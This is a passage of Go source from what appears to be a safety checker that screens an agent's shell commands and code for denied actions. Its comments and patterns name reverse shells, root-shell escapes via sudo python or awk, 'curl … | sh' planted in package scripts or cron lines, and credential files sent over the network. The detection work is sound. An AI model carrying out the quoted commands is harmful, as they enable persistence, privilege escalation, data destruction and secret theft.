	}
	if len(code) < 16<<10 && reverseShellRe().MatchString(code) {
		a.r.reverseShell = true
	}
	if a.env.ScriptVerdict != nil && a.r.deniedRun == "" && len(ce.Writes) > 0 && len(code) < 16<<10 {
		// p['scripts']['prepare'] = 'curl … | sh'; json.dump(p, open('package.json', 'w')):
		// a command the rules deny, in code that writes files, may be
		// written where it runs later (a package script, a Makefile, .envrc).
	written:
		for _, lit := range spawnedCommands(ce.Lang, code) {
			// Each line of the text, its escapes read ('all:\n\tcurl … | sh').
			lines := strings.Split(strings.NewReplacer(`\n`, "\n", `\t`, "\t").Replace(lit), "\n")
			for _, cmd := range append([]string{lit}, lines...) {
				if cmd = strings.TrimSpace(cmd); cmd != "" && a.env.ScriptVerdict(cmd) == hook.Deny {
					a.r.deniedRun = cmd + " (text the code writes into " + strings.Join(ce.Writes, ", ") + ")"
					break written
				}
			}
		}
	}
	if a.env.ScriptVerdict != nil && a.r.deniedRun == "" && len(code) < 16<<10 {
		// os.chmod('/bin/bash', 0o4755), open('/dev/sda', 'wb'): library
		// calls that do what a shell command would, read as that command.
		for _, cmd := range codeAsShell(code) {
			if a.env.ScriptVerdict(cmd) == hook.Deny {
				a.r.deniedRun = cmd + " (what the code does)"
				break
			}
		}
	}
	if a.env.ScriptVerdict != nil && (slices.Contains(ce.Found, foundSpawn) || slices.Contains(ce.Found, foundUnanalyzable)) && len(code) < 16<<10 {
		// The commands the code hands to a shell are read as shell (in a
		// language the analysis does not know too: lua's os.execute, R's
		// system, an editor's !command).
		cmds := spawnedCommands(ce.Lang, code)
		if ce.Lang == "sed" && a.c.Stdin != "" && sedRunsInput(code) {
			// echo 'CMD' | sed 's/.*/&/e': each input line is run as it is.
			for _, line := range strings.Split(a.c.Stdin, "\n") {
				if strings.TrimSpace(line) != "" {
					cmds = append(cmds, line)
				}
			}
		}
		for _, cmd := range cmds {
			if a.r.Privileged && bareShellRe().MatchString(cmd) {
				// sudo python3 -c 'os.setuid(0); os.system("/bin/sh")',
				// sudo awk 'BEGIN{system("/bin/bash -p")}': a root shell.
				a.r.deniedRun = cmd + " (a shell with root privileges)"
				break
			}
			if a.env.ScriptVerdict(cmd) == hook.Deny {
				a.r.deniedRun = cmd
				break
			}
			if job, ok := cronLineCommand(cmd); ok && a.env.ScriptVerdict(job) == hook.Deny {
				// subprocess.run(['crontab', '-'], input='*/5 * * * * curl … | sh'):
				// a cron line the code installs; its command runs later.
				a.r.deniedRun = job + " (a scheduled job the code installs)"
				break
			}
		}
	}
	writes := false
	for _, f := range ce.Found {
		if f == foundWrite {
			writes = true
		}
	}
	// Code read only for what it spells out (an editor's commands, lua,
	// PowerShell…) has no list of what it deletes: a protected file it names
	// in code that deletes is taken as deleted.
	roughDeletes := len(ce.Deletes) == 0 && slices.Contains(ce.Found, foundDelete) && (ce.Lang == "vim" || dangerOnlyLangs[ce.Lang] ||
		slices.Contains(ce.Found, foundUnanalyzable))
	for _, p := range CodePathWords(code) {
		cls := a.classesOf(p)
		switch {
		case roughDeletes && (has(cls, ClassPersistence) || has(cls, ClassGuard) || has(cls, ClassVCS)):
			a.file(OpDelete, p, false)
		case writes && (has(cls, ClassPersistence) || has(cls, ClassGuard) || has(cls, ClassVCS)):
			a.file(OpWrite, p, false)
		case has(cls, ClassSecret):
			a.file(OpRead, p, false)
			if slices.Contains(ce.Found, foundNetwork) {
				// readFileSync(homedir()+'/.npmrc') … fetch(…, {body}): the
				// credential file read by code that also talks to the network.
				a.r.codeSendsSecret = p
			}
		}
	}
}

// localOnly reports a program that only reads, lists or prints: it cannot
// reach the network or run code.
func localOnly(s *Spec) bool {
	if len(s.Subcommands) > 0 || s.Code != "" || s.Network != "" {
		return false
	}
	for _, k := range []string{s.Operands, s.First} {
		switch k {
		case "", OperandRead, OperandList, OperandNone, OperandAny:
		default:
			if !strings.HasPrefix(k, OperandCodePrefix+"jq") {
				return false
			}
		}
	}
	for _, o := range s.Options {
		switch o.Value {
		case "", OperandRead, OperandNone, OperandAny, OperandWrite, OperandDir:
		default:
			return false
		}
	}
	return true
}

// nameFilter keeps find's -name and -iname values: they say what -delete removes.
func (a *analysis) nameFilter(opt, val string) {
	negated := a.r.negateNext
	a.r.negateNext = false
	switch opt {
	case "-name", "-iname":
		if !strings.Contains(val, "/") && !negated {
			a.r.filterNames = append(a.r.filterNames, val)
		}
	case "-path", "-ipath", "-wholename", "-regex", "-iregex":
		if !negated {
			// -path '*/migrations/*.py': a filter by place, not by a name;
			// what it removes is every file of that kind below DIR.
			a.r.filterNames = append(a.r.filterNames, "*")
		}
	}
}

// hostOf returns the host of a URL or host:port.
// guardedPrefixRe matches the run-time prefix of a path that is never
// empty: ${X:?…} (the shell stops when X is empty or unset) or a tool's
// own answer for where its cache is.
var guardedPrefixRe = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`^"?(\$\{[A-Za-z_][A-Za-z0-9_]*:\?[^}]*\}|\$\((npm config get cache|go env GOCACHE|go env GOMODCACHE|pip cache dir|yarn cache dir|pnpm store path|cargo metadata --format-version 1 --no-deps \| jq -r \.target_directory)\))"?/`)
})

// buildOutputNames are folder names that only ever hold what a build or a
// tool's cache makes.
var buildOutputNames = map[string]bool{"node_modules": true, ".turbo": true, ".next": true, ".nuxt": true, "dist": true,
	"build": true, "target": true, "coverage": true, "__pycache__": true, ".pytest_cache": true, ".mypy_cache": true,
	".ruff_cache": true, "_cacache": true, "incremental": true, ".parcel-cache": true, ".svelte-kit": true, ".angular": true}

// GuardedBuildOutput reports a delete operand made of a never-empty
// run-time prefix and a literal rest whose last folder is a build output.
func GuardedBuildOutput(v string) bool {
	loc := guardedPrefixRe().FindStringIndex(v)
	if loc == nil {
		return false
	}
	rest := strings.Trim(v[loc[1]:], `"/`)
	if rest == "" || strings.ContainsAny(rest, "$`*?[{}") || strings.Contains(rest, "..") {
		return false
	}
	return buildOutputNames[path.Base(rest)]
}

// envDumpRe matches a substitution that prints the whole environment.
var envDumpRe = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`(\$\(|` + "`" + `)\s*(env|printenv|export\s+-p|declare\s+-x|jq\s+-n\s+env)\s*(\||\)|` + "`" + `)`)
})

// HoldsEnvironmentDump reports text (an argument in its source form) with a
// substitution that prints the whole environment: "debug: $(env)".
func HoldsEnvironmentDump(text string) bool {
	return strings.ContainsAny(text, "$`") && envDumpRe().MatchString(text)
}

// urlCarries says what secret a URL with run-time parts carries to its
// written-out host: "environment" for a substitution that prints the whole
// environment, "the secret variable $X" for a known service's token or a
// cloud secret going to a host that is not that service; "" otherwise.
func urlCarries(u string) string {
	scheme, rest, ok := strings.Cut(u, "://")
	if !ok || scheme == "" || strings.ContainsAny(scheme, "$`") {
		return ""
	}
	host := hostOf(u)
	if host == "" || strings.ContainsAny(host, "$`{}") {
		return ""
	}
	tail := ""
	if i := strings.IndexAny(rest, "/?#"); i >= 0 {
		tail = rest[i:]
	}
	if envDumpRe().MatchString(tail) {
		return "environment"
	}
	var vars []string
	for _, m := range headerVarRe().FindAllStringSubmatch(tail, -1) {
		vars = append(vars, m[1])
	}
	if v := knownToken(vars); v != "" && !ownProvider([]string{v}, u, true) {
		if local, _ := classifyHost(u); !local {
			return "the secret variable $" + v
		}
	}
	return ""
}

func hostOf(dest string) string {
	rest := dest
	if i := strings.Index(rest, "://"); i >= 0 {
		rest = rest[i+3:]
	}
	if i := strings.IndexAny(rest, "/?#"); i >= 0 {
		rest = rest[:i]
	}
	if i := strings.LastIndexByte(rest, '@'); i >= 0 {
		rest = rest[i+1:]
	}
	if i := strings.LastIndexByte(rest, ':'); i >= 0 && !strings.Contains(rest, "]") {
		rest = rest[:i]
	}
	return rest
}

func hasInputRedirect(c *shell.Command) bool {
	for _, rd := range c.Redirects {
		if strings.HasPrefix(rd.Op, "<") && rd.Op != "<<<" {
			return true
		}
	}
	return false
}

// userPortListener reports $(lsof -t -i:PORT) (or -ti:PORT, with an
// optional -sTCP:LISTEN) for a port above 1023: the processes of this user
// that hold a development port (a dev server left running), not a system
// service.
func userPortListener(v string) bool {
	inner, ok := strings.CutPrefix(v, "$(")
	if !ok {
		return false
	}
	inner, ok = strings.CutSuffix(inner, ")")
	if !ok {
		return false
	}
	f := strings.Fields(inner)
	if len(f) < 2 || f[0] != "lsof" {
		return false
	}
	terse, port := false, 0
	for i := 1; i < len(f); i++ {
		w := f[i]
		switch {
		case w == "-t":
			terse = true
		case w == "-ti" || w == "-it" || w == "-tni" || w == "-tin" || w == "-nti":
			// -ti :3000 (the flags together, the address next)
			terse = true
			if i+1 < len(f) && (strings.HasPrefix(f[i+1], ":") || strings.HasPrefix(f[i+1], "tcp:")) {
				i++
				_, p, _ := strings.Cut(f[i], ":")
				n, err := strconv.Atoi(p)
				if err != nil {
					return false
				}
				port = n
			}
		case w == "-sTCP:LISTEN":
		case strings.HasPrefix(w, "-ti:") || strings.HasPrefix(w, "-i:") || strings.HasPrefix(w, "-tiTCP:") || w == "-i" && i+1 < len(f):
			if w == "-i" {
				i++
				w = f[i]
			}
			terse = terse || strings.HasPrefix(w, "-ti")
			_, p, _ := strings.Cut(w, ":")
			if d, ok := strings.CutPrefix(p, "${"); ok && strings.HasSuffix(d, "}") {
				// :${PORT:-8080}: the port a dev server takes, by default.
				if _, def, ok := strings.Cut(strings.TrimSuffix(d, "}"), ":-"); ok {
					p = def
				}
			}
			n, err := strconv.Atoi(p)
			if err != nil {
				return false
			}
			port = n
		default:
			return false
		}
	}
	return terse && port > 1023 && port < 65536 && !servicePorts[port]
}

// servicePorts are the ports of databases, caches and brokers: what listens
// there is a service the developer keeps running, not the dev server.
var servicePorts = map[int]bool{5432: true, 3306: true, 6379: true, 27017: true, 9200: true, 9300: true, 5672: true, 15672: true,
	11211: true, 1433: true, 1521: true, 2181: true, 9092: true, 8500: true, 2379: true, 5984: true, 7687: true, 8086: true, 26257: true}

// gitAlias reports a git config value that runs no shell: alias.NAME naming
// git subcommands (no leading !), or an editor or pager from the harmless
// list.
func gitAlias(r *Record, v string) bool {
	if r.Program != "git" || r.Subcommand != "config" {
		return false
	}
	key := strings.ToLower(r.firstArg)
	if strings.HasPrefix(key, "alias.") {
		return !strings.HasPrefix(strings.TrimSpace(v), "!") && !strings.ContainsAny(v, "`$;|&")
	}
	// core.editor "code --wait", core.pager less: a program from the harmless list.
	switch key {
	case "core.editor", "sequence.editor":
		return harmlessGitCommands[strings.TrimSpace(v)]
	case "core.pager":
		return harmlessGitCommands[strings.TrimSpace(v)] || harmlessPager(v)
	case "credential.helper":
		// git's own helpers that keep credentials in memory or the OS
		// keychain (store, a plain-text file, stays for the judge).
		f := strings.Fields(v)
		switch {
		case len(f) == 1 && (f[0] == "osxkeychain" || f[0] == "manager" || f[0] == "manager-core" || f[0] == "libsecret" || f[0] == "wincred" || f[0] == "cache"):
			return true
		case len(f) == 2 && f[0] == "cache" && pagerOption().MatchString(f[1]) && strings.HasPrefix(f[1], "--timeout"):
			return true
		}
	}
	return false
}

// pagerOption is an option word of a pager: -FRX, --tabs=4, --dark.
var pagerOption = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`^--?[A-Za-z][\w-]*(=[\w.-]+)?$`)
})

// harmlessPager reports a pager from the harmless list with options only
// (less -FRX, delta --dark, bat --paging=always).
func harmlessPager(v string) bool {
	f := strings.Fields(v)
	if len(f) == 0 || strings.ContainsAny(v, "`$;|&<>()\n") {
		return false
	}
	switch f[0] {
	case "less", "more", "most", "delta", "bat", "cat":
	default:
		return false
	}
	for _, w := range f[1:] {
		if !pagerOption().MatchString(w) {
			return false
		}
	}
	return true
}

// completionScriptRe is a process substitution of a known CLI printing its
// shell completion functions.
var completionScriptRe = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`^<\((kubectl|helm|gh|glab|npm|pnpm|docker|minikube|kind|k3d|flux|argocd|istioctl|eksctl|k9s|cilium|velero|` +
		`hugo|stern|kustomize|rustup|poetry|deno|bun|uv|pipx|cargo|terraform|vault|nomad|consul|op|doctl|linkerd|skaffold|tilt|` +
		`goreleaser|golangci-lint|task|just|mise|rg|fd|bat|starship|zoxide|direnv) (completion|completions)( -s)? (bash|zsh|fish)\)$`)
})

// completionScript reports source <(TOOL completion SHELL).
func completionScript(v string) bool { return completionScriptRe().MatchString(v) }

// SourcesCompletion reports source <(TOOL completion SHELL) (or .): a known
// CLI's completion functions, code that is generated but known.
func SourcesCompletion(c *shell.Command) bool {
	return (c.Name == "source" || c.Name == ".") && len(c.Args) == 1 && completionScript(c.Args[0])
}

// knownHostURL reports a URL whose host is this machine or a private
// network, written out before any run-time value (a port, a path or a
// query), or that starts with the CI runner's own server variable.
func knownHostURL(v string) bool {
	if strings.Contains(v, "$(") || strings.Contains(v, "`") {
		return false // a command's output in the URL: what it carries is not known
	}
	name := strings.TrimPrefix(strings.TrimPrefix(v, "$"), "{")
	if i := strings.IndexAny(name, "}/"); i > 0 && strings.HasPrefix(v, "$") {
		if _, ok := ciServerVars[name[:i]]; ok {
			return true
		}
	}
	rest := v
	if i := strings.Index(rest, "://"); i >= 0 {
		rest = rest[i+3:]
	}
	end := strings.IndexAny(rest, ":/?#")
	if end <= 0 {
		return false
	}
	host := rest[:end]
	if strings.ContainsAny(host, "$`{}()@") {
		return false
	}
	// Only this machine or a private network: a value in the rest of the URL
	// cannot carry anything off it. Nor to a well-known service's API
	// (api.github.com/repos/$REPO/pulls): the path names what to read there.
	local, _ := classifyHost(host)
	return local || serviceAPIHost(strings.ToLower(host))
}

// serviceAPIHost reports a host of a well-known service's API (the hosts of
// tokenProviders).
func serviceAPIHost(host string) bool {
	for _, tp := range tokenProviders {
		for _, h := range tp.hosts {
			if host == h || strings.HasSuffix(host, "."+h) {
				return true
			}
		}
	}
	return false
}

// envDumpSubstRe matches a command substitution that prints the whole
// environment: $(env), $(printenv), `set`, $(export -p).
var envDumpSubstRe = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile("(\\$\\(|`)\\s*(env|printenv|set|export\\s+-p|declare\\s+-x)\\s*(\\||\\)|`)")
})

// bareShellRe is an interactive shell with nothing to run (/bin/sh,
// bash -p, sh -i).
var bareShellRe = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`^\s*(/usr)?(/bin/)?(ba|z|da|k)?sh(\s+-[ipl]+)*\s*$`)
})

// cronLineCommand returns the command of a cron table line ("*/5 * * * *
// CMD", "@reboot CMD") found in a string, and whether it is one.
func cronLineCommand(line string) (string, bool) {
	line = strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(line), `\n`))
	f := strings.Fields(line)
	if len(f) >= 2 && strings.HasPrefix(f[0], "@") && len(f[0]) > 1 {
		return strings.Join(f[1:], " "), true
	}
	if len(f) < 6 {
		return "", false
	}
	for _, x := range f[:5] {
		if strings.Trim(x, "*/0123456789,-") != "" && !(len(x) == 3 && strings.ToUpper(x) == x) {
			return "", false
		}
	}
	return strings.Join(f[5:], " "), true
}
